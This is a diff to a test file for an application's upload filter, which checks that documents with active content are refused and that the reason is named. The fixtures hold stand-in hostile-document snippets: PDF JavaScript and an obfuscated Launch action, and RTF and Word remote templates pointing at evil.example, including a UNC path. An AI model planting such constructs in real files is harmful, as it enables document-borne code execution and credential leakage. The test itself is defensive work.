@@ -30,31 +30,95 @@ onEachEngine('documents of applicants', ({ makeContext }) => {
   }
 
   test.each([
-    ['an OpenDocument file with a Basic library', 'odt', odt({ 'Basic/Standard/Module1.xml': 'Sub Main' })],
-    ['an OpenDocument file with an event', 'odt', odt({ 'settings.xml': '<script:event-listener/>' })],
-    ['a PDF with JavaScript', 'pdf', pdfOf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')],
-    ['a PDF that starts a program', 'pdf', pdfOf('<< /OpenAction << /S /L#61unch >> >>')],
-    ['a PDF whose JavaScript is compressed', 'pdf', packed('<< /S /JavaScript >>')],
+    [
+      'an OpenDocument file with a Basic library',
+      'odt',
+      odt({ 'Basic/Standard/Module1.xml': 'Sub Main' }),
+      'OpenDocument',
+      'has macros, controls or objects of other programs in it',
+    ],
+    [
+      'an OpenDocument file with an event',
+      'odt',
+      odt({ 'settings.xml': '<script:event-listener/>' }),
+      'OpenDocument',
+      'has macros, controls or objects of other programs in it',
+    ],
+    [
+      'a PDF with JavaScript',
+      'pdf',
+      pdfOf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'),
+      'PDF',
+      'has JavaScript in it',
+    ],
+    [
+      'a PDF that starts a program',
+      'pdf',
+      pdfOf('<< /OpenAction << /S /L#61unch >> >>'),
+      'PDF',
+      'starts a program or plays media',
+    ],
+    [
+      'a PDF whose JavaScript is compressed',
+      'pdf',
+      packed('<< /S /JavaScript >>'),
+      'PDF',
+      'has JavaScript in it',
+    ],
     [
       'an RTF file that updates an object',
       'rtf',
       rtf('{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}'),
+      'RTF',
+      'has macros, controls or objects of other programs in it',
     ],
-    ['an RTF file with a template from elsewhere', 'rtf', rtf('{\\*\\template https://evil.example/a.dotm}')],
-    ['a Word file with a template from elsewhere', 'docx', docx(settings('https://evil.example/a.dotm'))],
-    ['a Word file with a template of another machine', 'docx', docx(settings('\\\\evil.example\\a.dotm'))],
-    ['a Word file with an object', 'docx', docx({ 'word/embeddings/oleObject1.bin': ole })],
-    ['a Word file that cannot be unpacked', 'docx', docx().subarray(0, -30)],
+    [
+      'an RTF file with a template from elsewhere',
+      'rtf',
+      rtf('{\\*\\template https://evil.example/a.dotm}'),
+      'RTF',
+      'fetches or sends something',
+    ],
+    [
+      'a Word file with a template from elsewhere',
+      'docx',
+      docx(settings('https://evil.example/a.dotm')),
+      'Word',
+      'fetches or sends something',
+    ],
+    [
+      'a Word file with a template of another machine',
+      'docx',
+      docx(settings('\\\\evil.example\\a.dotm')),
+      'Word',
+      'fetches or sends something',
+    ],
+    [
+      'a Word file with an object',
+      'docx',
+      docx({ 'word/embeddings/oleObject1.bin': 'x' }),
+      'Word',
+      'has macros, controls or objects of other programs in it',
+    ],
+    [
+      'a Word file that cannot be unpacked',
+      'docx',
+      docx().subarray(0, -30),
+      'Word',
+      'cannot be unpacked, or takes too long to look at',
+    ],
     [
       'an old Word file with a package',
       'doc',
       latin1(`${ole}${wide('WordDocument')}\x01\0${wide('Ole10Native')}`),
+      'Word before 2007',
+      'has macros, controls or objects of other programs in it',
     ],
-  ])('are refused: %s', async (_what, extension, content) => {
+  ])('are refused, and what they have is named: %s', async (_what, extension, content, kind, what) => {
     const { answer, stored } = await apply(extension, content);
     expect([answer.status, await answer.text()]).toEqual([
       400,
-      'attachments.1: This file runs or fetches something when it is opened. Please print it to a new PDF and choose that.',
+      `attachments.1: This file (${kind}, 1 KB) ${what}. Please print it to a new PDF and choose that.`,
     ]);
     expect(stored).toEqual({ submissions: [], attachments: [], mails: [] });
   });
